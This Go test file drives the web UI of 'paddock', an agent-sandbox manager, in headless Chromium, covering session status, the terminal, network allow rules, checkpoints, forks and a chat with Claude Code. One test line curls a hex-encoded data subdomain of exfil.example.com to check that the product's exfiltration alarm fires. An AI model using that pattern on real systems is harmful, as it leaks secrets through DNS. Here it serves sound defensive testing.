package webui_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/paddockhq/paddock/internal/api/client"
	"github.com/paddockhq/paddock/internal/api/wire"
	"github.com/paddockhq/paddock/internal/cli"
	"github.com/paddockhq/paddock/internal/clitest"
	"github.com/paddockhq/paddock/internal/modeltest"
	"github.com/paddockhq/paddock/internal/servecmd"
	"github.com/paddockhq/paddock/internal/testenv"
)

// TestMain makes this test binary paddock too: the daemon the browser tests start (as
// "paddock serve"), the guest it injects into sandboxes, and git's remote helper.
func TestMain(m *testing.M) {
	switch filepath.Base(os.Args[0]) {
	case "paddock", cli.RemoteHelperName:
		os.Exit(servecmd.Main())
	}
	os.Exit(m.Run())
}

// need skips the test when a program it drives is missing; in CI (make setup installs
// them all) that is a failure instead.
func need(t *testing.T, prog, why string) string {
	t.Helper()
	return testenv.Program(t, prog, "make setup ("+why+")")
}

// chromium finds the browser: $PADDOCK_CHROMIUM, else Debian's chromium. Quick runs
// (go test -short) skip the test.
func chromium(t *testing.T) string {
	testenv.Heavy(t, "Chromium")
	if p := os.Getenv("PADDOCK_CHROMIUM"); p != "" {
		return p
	}
	return need(t, "chromium", "the browser tests run the web UI in headless Chromium; apt-get install chromium")
}

// daemon is a paddock with a home of its own (clitest.Home: its PADDOCK_HOME, its
// environment, torn down at the end) and a repository "repo", its CLI run in-process.
type daemon struct {
	*clitest.Home
	t      *testing.T
	home   string
	client *client.Client
}

func newDaemon(t *testing.T) *daemon {
	h := clitest.New(t)
	d := &daemon{Home: h, t: t, home: h.Dir, client: client.NewClient(h.Paths().Socket)}
	h.InitRepo("repo")
	return d
}

// paddock runs a paddock command and returns its stdout, failing the test if it fails.
func (d *daemon) paddock(args ...string) string {
	d.t.Helper()
	return d.Must(args...)
}

// inside runs argv in sandbox repo and returns its exit code.
func (d *daemon) inside(argv ...string) int {
	d.t.Helper()
	code, err := d.client.Exec(context.Background(), "repo", wire.ExecRequest{Argv: argv}, wire.ExecIO{Stdout: io.Discard, Stderr: io.Discard})
	if err != nil {
		d.t.Fatalf("exec %v: %v", argv, err)
	}
	return code
}

// web serves the API and the UI over TCP (paddock web) and returns the one-time login URL.
func (d *daemon) web() string {
	var st wire.WebStatus
	if err := json.Unmarshal([]byte(d.paddock("web", "--listen", "127.0.0.1:0", "--json")), &st); err != nil {
		d.t.Fatal(err)
	}
	if st.LoginURL == "" {
		d.t.Fatalf("paddock web gave no login URL: %+v", st)
	}
	return st.LoginURL
}

// browser is a headless Chromium the size of a phone (390x844 CSS pixels, touch).
type browser struct {
	t   *testing.T
	ctx context.Context
	// shots is where screenshots go ($PADDOCK_SCREENSHOTS), empty for none.
	shots string
}

func newBrowser(t *testing.T, path string) *browser {
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(path),
		chromedp.NoSandbox, // as root, Chromium's own sandbox cannot start
		chromedp.WindowSize(390, 844),
		chromedp.Flag("lang", "en-US"),
	)
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(actx, chromedp.WithErrorf(t.Logf))
	ctx, cancelTimeout := context.WithTimeout(ctx, 4*time.Minute)
	t.Cleanup(func() { cancelTimeout(); cancel(); cancelAlloc() })
	b := &browser{t: t, ctx: ctx, shots: os.Getenv("PADDOCK_SCREENSHOTS")}
	b.do(chromedp.EmulateViewport(390, 844, chromedp.EmulateScale(2), chromedp.EmulateMobile, chromedp.EmulateTouch))
	return b
}

func (b *browser) do(actions ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	if err := chromedp.Do(b.ctx, actions...); err != nil {
		b.t.Fatal(err)
	}
}

// waitFor waits until the JavaScript expression is true, failing with what after a minute.
func (b *browser) waitFor(what, expr string) {
	b.t.Helper()
	// A minute: a real agent CLI's turn, on 2 cores shared with the rest of the suite
	// (a Kubernetes cluster among it), took over 30 s once.
	b.waitOr(what, expr, time.Minute, nil)
}

// waitOr is waitFor for as long as within, that, failing, shows what diag says too.
func (b *browser) waitOr(what, expr string, within time.Duration, diag func() string) {
	b.t.Helper()
	deadline := time.Now().Add(within)
	for {
		// An error is a page still loading (or navigating away): try again.
		ok, err := chromedp.Run(b.ctx, chromedp.Evaluate[bool](expr))
		if err == nil && ok {
			return
		}
		if time.Now().After(deadline) {
			if diag != nil {
				b.t.Fatalf("waiting for %s (%s): %v\n%s", what, expr, err, diag())
			}
			b.t.Fatalf("waiting for %s (%s): %v\npage text:\n%s", what, expr, err, b.text("body"))
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// eval returns the value of a JavaScript expression.
func eval[T any](b *browser, expr string) T {
	b.t.Helper()
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](expr))
	if err != nil {
		b.t.Fatalf("%s: %v", expr, err)
	}
	return v
}

// awaitEval returns the value a JavaScript promise settles to.
func awaitEval[T any](b *browser, expr string) T {
	b.t.Helper()
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		b.t.Fatalf("%s: %v", expr, err)
	}
	return v
}

// text is the text of the first element matching a CSS selector.
func (b *browser) text(sel string) string {
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](fmt.Sprintf(`(document.querySelector(%q) || {}).innerText || ""`, sel)))
	if err != nil {
		return err.Error()
	}
	return v
}

// tap clicks (as a finger would) the element a CSS selector finds.
func (b *browser) tap(sel string) {
	b.t.Helper()
	b.waitFor(sel, fmt.Sprintf(`!!document.querySelector(%q)`, sel))
	b.do(chromedp.Click(chromedp.CSS(sel)))
}

// typeIn types into the element a CSS selector finds, as a phone's keyboard does: text
// arrives as input (Input.insertText), and "\r" as the Enter key.
// replaceIn types text over what a field holds, as a person selecting it all and
// typing does: a value cleared by script is put back by a re-render of the page, which
// holds the field's value, before the typing reaches it (a fork was named
// "repo-2repo-fork" so).
func (b *browser) replaceIn(sel, text string) {
	b.t.Helper()
	b.waitFor(sel, fmt.Sprintf(`!!document.querySelector(%q)`, sel))
	eval[any](b, fmt.Sprintf(`(() => { const e = document.querySelector(%q); e.focus(); e.select(); })()`, sel))
	if _, err := chromedp.Call(b.ctx, input.InsertText, input.InsertTextParams{Text: text}); err != nil {
		b.t.Fatal(err)
	}
}

func (b *browser) typeIn(sel, text string) {
	b.t.Helper()
	b.waitFor(sel, fmt.Sprintf(`!!document.querySelector(%q)`, sel))
	eval[any](b, fmt.Sprintf(`document.querySelector(%q).focus()`, sel))
	for i, part := range strings.Split(text, "\r") {
		if i > 0 {
			b.enter()
		}
		if part == "" {
			continue
		}
		if _, err := chromedp.Call(b.ctx, input.InsertText, input.InsertTextParams{Text: part}); err != nil {
			b.t.Fatal(err)
		}
	}
}

// enter presses Enter: a key down (which brings its keypress) and up.
func (b *browser) enter() {
	b.t.Helper()
	for _, typ := range []input.DispatchKeyEventType{input.DispatchKeyEventTypeKeyDown, input.DispatchKeyEventTypeKeyUp} {
		p := input.DispatchKeyEventParams{Type: typ, Key: "Enter", Code: "Enter", WindowsVirtualKeyCode: 13, NativeVirtualKeyCode: 13}
		if typ == input.DispatchKeyEventTypeKeyDown {
			p.Text, p.UnmodifiedText = "\r", "\r"
		}
		if _, err := chromedp.Call(b.ctx, input.DispatchKeyEvent, p); err != nil {
			b.t.Fatal(err)
		}
	}
}

// fits checks the page does not scroll sideways on the phone's width.
func (b *browser) fits(screen string) {
	b.t.Helper()
	w := eval[int](b, `document.documentElement.scrollWidth`)
	if w > 390 {
		b.t.Errorf("%s: the page is %d px wide on a 390 px screen", screen, w)
	}
}

// cache turns the browser's HTTP cache on or off.
func (b *browser) cache(on bool) {
	b.t.Helper()
	if _, err := chromedp.Call(b.ctx, network.SetCacheDisabled, network.SetCacheDisabledParams{CacheDisabled: !on}); err != nil {
		b.t.Fatal(err)
	}
}

// shot saves a screenshot as NAME.png in $PADDOCK_SCREENSHOTS.
func (b *browser) shot(name string) {
	b.t.Helper()
	if b.shots == "" {
		return
	}
	png, err := chromedp.Run(b.ctx, chromedp.CaptureScreenshot())
	if err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(b.shots, name+".png"), png, 0o644); err != nil {
		b.t.Fatal(err)
	}
}

// TestBrowser drives the web UI in headless Chromium at a phone's size, against a real
// daemon with a real bubblewrap sandbox, the UI loaded from the daemon's TCP listener
// after signing in with paddock web's login URL: the sandbox list, a session's status
// changing live, the terminal, a blocked host allowed with one tap, and (with Claude
// Code installed) a conversation sent from the page.
func TestBrowser(t *testing.T) {
	t.Parallel()
	chrome := chromium(t)
	need(t, "bwrap", "sandboxes")
	haveClaude := true
	if _, err := exec.LookPath("claude"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("claude must be installed in CI (make setup)")
		}
		haveClaude = false
	}
	var model *modeltest.Anthropic
	if haveClaude {
		model = modeltest.NewAnthropic(t)
	}
	d := newDaemon(t)
	if haveClaude {
		d.Setenv("ANTHROPIC_BASE_URL", model.URL())
		d.Setenv("ANTHROPIC_API_KEY", "sk-ant-browser-0123456789abcdefghijklmnop")
	}
	d.paddock("up", filepath.Join(d.home, "repo"))
	d.paddock("chat", "repo", "--new", "worker", "--agent", "shell", "--command", "bash")
	login := d.web()

	b := newBrowser(t, chrome)
	b.trace()
	b.do(chromedp.Navigate(login))
	// The sign-in page has the UI's look: a button a thumb hits, commands shown as code.
	// Before signing in, the browser has no cookie: the manifest (what "Add to Home
	// Screen" reads) and its icon come without one.
	b.waitFor("the sign-in page's look", `getComputedStyle(document.querySelector('form[action="/login"] button')).backgroundColor === 'rgb(31, 111, 92)' && !!document.querySelector('p code') && !document.body.innerText.includes('`+"`"+`')`)
	b.smallTargets("the sign-in page")
	b.fits("the sign-in page")
	b.shot("sign-in")
	publicFiles(t, login[:strings.Index(login, "/login?")])
	b.tap(`form[action="/login"] button`)

	// The list: the sandbox and its session, with its status, live.
	b.waitFor("the session in the list", `!!document.querySelector('[data-sandbox="repo"] [data-session="worker"] [data-status]')`)
	b.waitFor("the live event stream", `!!document.querySelector('[data-feed="live"]')`)
	b.fits("the list")

	// A cold load, as a phone's first visit: bytes sent and time to the list.
	b.cache(false)
	b.do(chromedp.Reload())
	b.waitFor("the list after a reload", `!!document.querySelector('[data-session="worker"]') && performance.getEntriesByName('paddock-usable').length > 0`)
	type load struct{ Assets, API, Usable float64 }
	var l load
	raw := eval[string](b, `JSON.stringify((() => {
		const nav = performance.getEntriesByType('navigation')[0];
		let assets = nav.transferSize, api = 0;
		for (const r of performance.getEntriesByType('resource')) {
			if (new URL(r.name).pathname.startsWith('/v1/')) api += r.transferSize; else assets += r.transferSize;
		}
		return {Assets: assets, API: api, Usable: performance.getEntriesByName('paddock-usable')[0].startTime};
	})())`)
	if err := json.Unmarshal([]byte(raw), &l); err != nil {
		t.Fatal(err)
	}
	t.Logf("timings: %s", eval[string](b, `JSON.stringify(performance.getEntries().map(e => [e.name.replace(location.origin, ''), Math.round(e.startTime), Math.round(e.duration)]))`))
	t.Logf("first load: %.0f bytes of page and assets, %.0f bytes of API answers; usable after %.0f ms", l.Assets, l.API, l.Usable)
	b.cache(true)

	// A status reported inside the sandbox shows at once, highlighted.
	if code := d.inside("/opt/paddock/bin/paddock", "guest", "notify", "--session", "worker", "--status", "waiting"); code != 0 {
		t.Fatalf("guest notify: exit %d", code)
	}
	b.waitFor("the waiting status", `!!document.querySelector('.needs-you [data-session="worker"] [data-status="waiting"]') && !!document.querySelector('[data-sandbox="repo"] .is-waiting [data-status="waiting"]')`)
	// The title follows in the same render or the next one.
	b.waitFor("the waiting session counted in the title", `document.title === "(1) paddock"`)
	b.shot("list")
	// A host name carrying data raises an alarm: the sandbox's card is marked, live.
	d.inside("sh", "-c", "curl -s -o /dev/null https://4a6f686e20446f652070617373776f72643a2068756e74657232.exfil.example.com/")
	b.waitFor("the alarm's mark", `!!document.querySelector('[data-sandbox="repo"] .card-head .alarm') && document.querySelector('[data-sandbox="repo"] .alarm-note').textContent.includes('paddock alarms repo')`)
	b.tap(`[data-sandbox="repo"] .clear-alarms`)
	b.waitFor("the alarm cleared", `!document.querySelector('[data-sandbox="repo"] .alarm')`)

	// The terminal: the session's tmux; what is typed comes back, and the key bar's ↑
	// brings back the last command.
	b.tap(`[data-sandbox="repo"] [data-session="worker"] a`)
	b.tap(`.tabs a[href$="/terminal"]`)
	b.waitFor("the terminal attached", `!!document.querySelector('.term[data-conn="connected"] .xterm-rows')`)
	b.waitFor("the shell's prompt", `document.querySelector('.xterm-rows').textContent.includes('$')`)
	b.typeIn(".xterm-helper-textarea", "echo typed-$((6*7))\r")
	count := `document.querySelector('.xterm-rows').textContent.split('typed-42').length - 1`
	b.waitFor("the typed command's output", count+` >= 1`)
	b.waitFor("the typed command echoed", `document.querySelector('.xterm-rows').textContent.includes('echo typed-$((6*7))')`)
	b.tap(`.keybar [data-key="up"]`)
	b.typeIn(".xterm-helper-textarea", "\r")
	b.waitFor("the command again, from the key bar's ↑", count+` >= 2`)
	b.fits("the terminal")
	b.shot("terminal")

	// The daemon restarts (the connection drops, as it does for a phone that slept): the
	// terminal reattaches by itself, and the event stream comes back.
	if err := d.client.StopDaemon(context.Background()); err != nil {
		t.Fatal(err)
	}
	b.waitFor("the terminal to lose its connection", `document.querySelector('.term').dataset.conn === 'reconnecting'`)
	d.paddock("ls") // starts the daemon, which serves the remembered listener again
	b.waitFor("the terminal reattached", `!!document.querySelector('.term[data-conn="connected"]')`)
	b.typeIn(".xterm-helper-textarea", "echo back-$((6*7))\r")
	b.waitFor("output after reattaching", `document.querySelector('.xterm-rows').textContent.includes('back-42')`)
	b.waitFor("the event stream back", `!!document.querySelector('[data-feed="live"]')`)

	// A blocked host, allowed with one tap.
	if code := d.inside("sh", "-c", "curl -sS -o /dev/null https://example.com"); code == 0 {
		t.Fatal("example.com was reachable before it was allowed")
	}
	b.tap(`.bar .back`)
	b.waitFor("the sandbox screen", `location.pathname === '/s/repo'`)
	b.tap(`.denial[data-host="example.com"] button`)
	b.waitFor("the host allowed", `!!document.querySelector('.denial[data-host="example.com"] .allowed')`)
	rules, err := d.client.NetRules(context.Background(), "repo")
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rules {
		found = found || (r.Pattern == "example.com" && r.Action == "allow" && r.Scope != "default")
	}
	if !found {
		t.Fatalf("no allow rule for example.com after the tap: %+v", rules)
	}

	// Learn mode: started with a tap; what the sandbox then reached for is proposed as a
	// rule, and one more tap allows it.
	b.tap(`.learn button.start`)
	b.waitFor("learning", `!!document.querySelector('.learn[data-learning="active"]')`)
	if code := d.inside("sh", "-c", "curl -sS -o /dev/null https://example.net"); code == 0 {
		t.Fatal("example.net was reachable while learning")
	}
	b.tap(`.learn button.refresh`)
	b.waitFor("the proposal", `!!document.querySelector('.proposal .opadd[data-pattern="example.net"]')`)
	b.tap(`.learn button.apply`)
	b.waitFor("the proposal applied, the rule now kept", `!!document.querySelector('.learn .applied') && !!document.querySelector('.proposal .opkeep[data-pattern="example.net"]') && !document.querySelector('.learn button.apply')`)
	if rules, err = d.client.NetRules(context.Background(), "repo"); err != nil {
		t.Fatal(err)
	}
	found = false
	for _, r := range rules {
		found = found || (r.Pattern == "example.net" && r.Action == "allow" && r.Scope == "repo")
	}
	if !found {
		t.Fatalf("no allow rule for example.net after applying the proposal: %+v", rules)
	}
	b.fits("the sandbox")
	b.smallTargets("the sandbox")
	b.shot("sandbox")

	// Changes: the agent's commits and diff, read with git inside the sandbox.
	if code := d.inside("sh", "-c", "cd /workspace && echo from-the-agent > notes.txt && git add notes.txt && git commit -qm 'Add notes' && echo wip > draft.txt"); code != 0 {
		t.Fatalf("commit inside: exit %d", code)
	}
	b.tap(`a.button[href="/s/repo/-/changes"]`)
	b.waitFor("the commit and the diff", `document.body.innerText.includes('Add notes') && !!document.querySelector('.diff summary') && document.querySelector('.diff summary').textContent.includes('notes.txt') && document.body.innerText.includes('draft.txt')`)
	b.tap(`.diff summary`)
	b.waitFor("the file's diff", `[...document.querySelectorAll('.diff pre .add')].some(e => e.textContent === '+from-the-agent')`)
	b.fits("the changes")

	// The session's turns: two checkpoints, the newest's diff; Rewind on the older puts
	// the files back in the sandbox, and the state before shows as its undo point.
	before, err := d.client.TakeCheckpoint(context.Background(), "repo", wire.CheckpointRequest{Session: "worker"})
	if err != nil {
		t.Fatal(err)
	}
	if code := d.inside("sh", "-c", "echo second > /workspace/turn2.txt"); code != 0 {
		t.Fatalf("write inside: exit %d", code)
	}
	after, err := d.client.TakeCheckpoint(context.Background(), "repo", wire.CheckpointRequest{Session: "worker"})
	if err != nil {
		t.Fatal(err)
	}
	turn := func(cp wire.Checkpoint) string { return fmt.Sprintf(`.turn[data-seq="%d"]`, cp.Seq) }
	b.tap(`.bar .back`)
	b.tap(`[data-session="worker"] a`)
	b.tap(`.tabs a[href$="/turns"]`)
	b.waitFor("both checkpoints, the newest where the session stands", `!!document.querySelector('`+turn(before)+`') && !!document.querySelector('`+turn(after)+`.here')`)
	b.tap(turn(after) + ` summary`)
	b.waitFor("the newest's stat and diff", `!!document.querySelector('`+turn(after)+` pre.stat')?.textContent.includes('turn2.txt') && !!document.querySelector('`+turn(after)+` .diff summary')?.textContent.includes('turn2.txt')`)
	b.tap(turn(before) + ` summary`)
	eval[any](b, `window.confirm = () => true`)
	b.tap(turn(before) + ` [data-act="rewind"]`)
	b.waitFor("the rewind done, its undo point listed", `!!document.querySelector('.timeline-note')?.textContent.includes('Rewound to') && !!document.querySelector('`+turn(before)+`.here') && !!document.querySelector('.turn[data-kind="rewind"]')`)
	if code := d.inside("test", "-e", "/workspace/turn2.txt"); code == 0 {
		t.Error("turn2.txt is still in the workspace after the rewind to the checkpoint before it")
	}
	b.fits("the turns")
	b.smallTargets("the turns")
	b.shot("turns")
	// Fork… on the newest makes a sandbox from it, under the name typed, linked once made.
	b.tap(turn(after) + ` [data-act="fork"]`)
	b.waitFor("the fork's backends, its parent's first", `document.querySelector('`+turn(after)+` select[name="fork-backend"] option')?.textContent === 'the same (bwrap)'`)
	b.replaceIn(turn(after)+` input[name="fork-name"]`, "repo-fork")
	b.tap(turn(after) + ` [data-act="fork-go"]`)
	b.waitFor("the fork made, linked", `!!document.querySelector('.timeline-note a[href="/s/repo-fork"]')`)
	if got, err := d.client.Get(context.Background(), "repo-fork"); err != nil || got.State != "running" {
		t.Fatalf("the fork from the web: %+v, %v", got, err)
	}
	if code, err := d.client.Exec(context.Background(), "repo-fork", wire.ExecRequest{Argv: []string{"test", "-e", "/workspace/turn2.txt"}}, wire.ExecIO{Stdout: io.Discard, Stderr: io.Discard}); err != nil || code != 0 {
		t.Errorf("the fork lacks the checkpoint's turn2.txt: exit %d, %v", code, err)
	}

	if !haveClaude {
		t.Log("claude is not installed: the conversation is not tested")
		return
	}
	// A conversation: a message sent from the page reaches Claude Code in the sandbox,
	// which runs the tool the model asks for; the page shows the prompt, the tool call
	// folded with its result, and the answer.
	d.paddock("chat", "repo", "--new", "claude", "--agent", "claude")
	b.do(chromedp.Navigate(strings.Replace(login, "/login?", "/s/repo/claude?", 1)))
	b.waitFor("the conversation screen", `!!document.querySelector('.sendbox textarea')`)
	b.typeIn(".sendbox textarea", "RUN: echo hello from the phone > /workspace/phone.txt")
	b.tap(`.sendbox button[type="submit"]`)
	b.waitOr("the tool call and the answer", `!!document.querySelector('.tool[data-tool="Bash"] .mark.done') && [...document.querySelectorAll('.msg.assistant')].some(e => e.textContent.includes('DONE:'))`, time.Minute,
		func() string { return d.conversationState(b, "repo", "claude", "DONE:") })
	b.waitFor("the prompt", `[...document.querySelectorAll('.msg.user')].some(e => e.textContent.includes('RUN: echo hello from the phone'))`)
	if code := d.inside("grep", "-q", "hello from the phone", "/workspace/phone.txt"); code != 0 {
		t.Fatal("the tool did not run in the sandbox")
	}
	b.fits("the conversation")
	b.smallTargets("the conversation")
	b.shot("conversation")

	d.catchUp(b, "repo", "claude")

	// What the conversation cost, an estimate, on the list: the sandbox's and the session's.
	b.do(chromedp.Navigate(strings.Replace(login, "/login?", "/?", 1)))
	b.waitFor("the costs on the list", `(() => {
		const sb = document.querySelector('[data-sandbox="repo"] .meta .cost');
		const se = document.querySelector('[data-sandbox="repo"] [data-session="claude"] .cost');
		return !!sb && !!se && /~\$/.test(sb.textContent) && /~\$/.test(se.textContent) && /model calls/.test(se.title);
	})()`)
	// However narrow its line, a cost is not cut in two ("~" above "<$0.01").
	if lines := eval[[]int](b, `(() => {
		const card = document.querySelector('[data-sandbox="repo"]');
		card.style.width = '60px';
		const lines = [...card.querySelectorAll('.cost')].map(e => new Set([...e.getClientRects()].map(r => Math.round(r.top))).size);
		card.style.width = '';
		return lines;
	})()`); len(lines) != 2 || lines[0] != 1 || lines[1] != 1 {
		t.Errorf("the costs on a narrow card take %v lines each, want 1 each", lines)
	}
}
